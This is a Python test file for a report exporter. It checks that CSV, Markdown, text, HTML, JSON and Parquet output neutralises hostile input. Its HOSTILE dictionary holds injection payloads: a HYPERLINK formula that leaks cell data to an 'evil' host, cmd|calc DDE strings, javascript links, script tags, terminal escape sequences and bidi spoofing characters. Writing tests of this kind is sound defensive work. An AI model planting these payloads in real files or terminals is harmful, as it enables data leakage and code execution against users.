"""CSV, JSON, Parquet and Markdown, and what hostile texts come to in each."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sys
from dataclasses import replace
from datetime import datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sprout_like.errors import ReportError
from sprout_like.printable import printable
from sprout_like.reports.document.blocks import Words, grid
from sprout_like.reports.document.document import document
from sprout_like.reports.formats.comma import as_csv, harmless
from sprout_like.reports.formats.flat import FIGURES, columns
from sprout_like.reports.formats.markdown import as_markdown
from sprout_like.reports.formats.text import as_text
from sprout_like.reports.formats.written import FORMATS, Format, as_json, written
from sprout_like.reports.interval import UNKNOWN, Figure
from sprout_like.reports.report import Method, Savings
from tests.sprout_like.reports.made_report import LINE, SAVING, UNKNOWN_LINE, line, made

HOSTILE = {
    "formula": '=HYPERLINK("http://evil/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "return within": "a\r=1+1",
    "blank before": " =1+1",
    "wide": "＝1+1",
    "pipe": "a|b\n| c",
    "link": "[click](javascript:alert(1))",
    "image": "![x](http://evil/x.png)",
    "html": "<script>alert(1)</script>&lt;",
    "entity": "&#106;avascript",
    "bare address": "see http://evil.example and www.evil.example or me@evil.example",
    "code": "`rm -rf`",
    "heading": "# not a heading",
    "list": "- not a list",
    "escape": "\x1b[2J\x9b31m\x07",
    "title": "\x1b]0;owned\x07",
    "direction": "\u202egpj.exe\u2066 and\u200f back\u061c",
    "line separators": "one\u2028| two\u2029# three",
    "invisible": "br\u200bief\u2060\ufeff\u00ad\U000e0041",
    "quote": 'Say "hello",\nworld; [b]',
}
STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0041]"
)
_all = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def _rows(**changes: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(made(**changes)), newline="")))


def test_csv_reads_back_with_empty_cells_for_unknown() -> None:
    known, unknown = _rows(lines=(LINE, line(None, energy_j=UNKNOWN, energy_unknown=4)))

    assert tuple(known) == ("directive", "purpose", "intensity_kind", "intensity_factors", *FIGURES)
    assert (known["directive"], known["energy_j"], known["energy_low_j"]) == ("brief", "80.0", "78.0")
    assert (known["operational_high_g"], known["embodied_g"], known["idle_j"]) == ("0.0041", "", "")
    assert (unknown["directive"], unknown["energy_j"], unknown["energy_unknown"]) == ("", "", "4")


def test_csv_of_several_dimensions_has_a_column_each() -> None:
    (row,) = _rows(by=("day", "tag:team"), lines=(replace(LINE, group=("2026-03-01", "=1+1")),))

    assert (row["day"], row["tag:team"]) == ("2026-03-01", "'=1+1")


@_all
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    (row,) = _rows(lines=(line(text),))

    assert row["directive"].lstrip(" ")[:1] not in {*"=+-@\t\r\n＝＋－＠"}
    assert row["directive"].removeprefix("'") == printable(text)
    assert not STEERING.search(row["directive"])


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_of_a_csv_stay_numbers(number: float) -> None:
    assert harmless(number) == number
    assert not isinstance(harmless(number), str)


@_all
def test_no_text_controls_a_terminal(text: str) -> None:
    printed = as_text(document(made(by=("task",), lines=(line(text),), method=Method(notes=(text,)))))

    assert not STEERING.search(printed)


@_all
def test_markdown_shows_a_text_and_does_nothing_else_with_it(text: str) -> None:
    """Read back by a parser of CommonMark with GitHub's tables and bare links, it is one cell of plain text."""
    markdown_it = pytest.importorskip("markdown_it", reason="it comes with rich")
    parser = markdown_it.MarkdownIt("commonmark").enable("table")
    source = as_markdown([grid("", ("task",), ("n",), [(text, "4")]), Words(text)])

    tokens = parser.parse(source)
    inline = [child for token in tokens for child in token.children or ()]

    assert {child.type for child in inline} <= {"text", "text_special"}
    assert [token.type for token in tokens].count("td_open") == 2
    assert not {"heading_open", "list_item_open", "html_block", "fence"} & {token.type for token in tokens}
    plain = " ".join(STEERING.sub("\ufffd", text).split())
    assert "".join(child.content for child in tokens[-2].children or ()) == plain
    assert not re.search(r"(https?|ftp)://|www\.|\w@\w", source)


@_all
def test_json_holds_a_text_as_it_is(text: str) -> None:
    assert json.loads(as_json(made(lines=(line(text),))))["lines"][0]["group"] == [text]


@_all
def test_a_page_holds_no_text_as_markup(text: str) -> None:
    page = written(made(lines=(line(text),), method=Method(notes=(text,))), "html").decode()

    assert "<script>alert" not in page
    assert text not in page or not set(text) & set("<>&")
    assert not STEERING.search(page)


def test_json_has_iso_stamps_and_null_for_unknown() -> None:
    broken = line("x", energy_j=Figure(math.nan, None, math.inf))
    data = json.loads(
        as_json(made(lines=(UNKNOWN_LINE, broken), savings=Savings(measured=(SAVING,)))), parse_constant=_refuse
    )

    assert datetime.fromisoformat(data["span"]["first_utc"]) == made().span.first_utc
    assert data["span"]["since_utc"] is None
    assert [of["usage"]["energy_j"]["value"] for of in data["lines"]] == [None, None]
    assert data["savings"]["measured"][0]["low"] == 0.215


def _refuse(constant: str) -> None:
    raise AssertionError(f"{constant} is not JSON")


def test_parquet_reads_back_with_types_and_nulls() -> None:
    pyarrow = pytest.importorskip("pyarrow", reason='pip install "sprout-like[parquet]"')
    from pyarrow import parquet

    report = made(lines=(LINE, UNKNOWN_LINE, line("=1+1")))
    table = parquet.read_table(pyarrow.BufferReader(written(report, "parquet")))

    assert tuple(table.column_names) == columns(report)
    assert table.column("energy_j").to_pylist() == [80.0, None, 80.0]
    assert table.column("directive").to_pylist() == ["brief", "brief", "=1+1"]
    assert (table.schema.field("requests").type, table.schema.field("energy_j").type) == ("int64", "double")
    empty = made(lines=())
    assert parquet.read_table(pyarrow.BufferReader(written(empty, "parquet"))).num_rows == 0


def test_without_pyarrow_parquet_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)

    with pytest.raises(ReportError, match=r'parquet needs pyarrow.*pip install "sprout-like\[parquet\]"'):
        written(made(), "parquet")


@pytest.mark.parametrize("output", FORMATS)
def test_the_same_report_is_written_the_same_every_time(output: Format) -> None:
    if output == "parquet":
        pytest.importorskip("pyarrow", reason='pip install "sprout-like[parquet]"')

    assert written(made(), output) == written(made(), output)


@pytest.mark.parametrize("output", FORMATS)
def test_an_empty_report_is_written_too(output: Format) -> None:
    if output == "parquet":
        pytest.importorskip("pyarrow", reason='pip install "sprout-like[parquet]"')

    assert written(made(headlines=(), lines=()), output)


@pytest.mark.parametrize("output", FORMATS)
def test_half_of_a_surrogate_pair_does_not_stop_a_report(output: Format) -> None:
    """SQLite gives such a text back as it was written."""
    if output == "parquet":
        pytest.importorskip("pyarrow", reason='pip install "sprout-like[parquet]"')

    assert written(made(lines=(line("a\ud800b"),)), output)
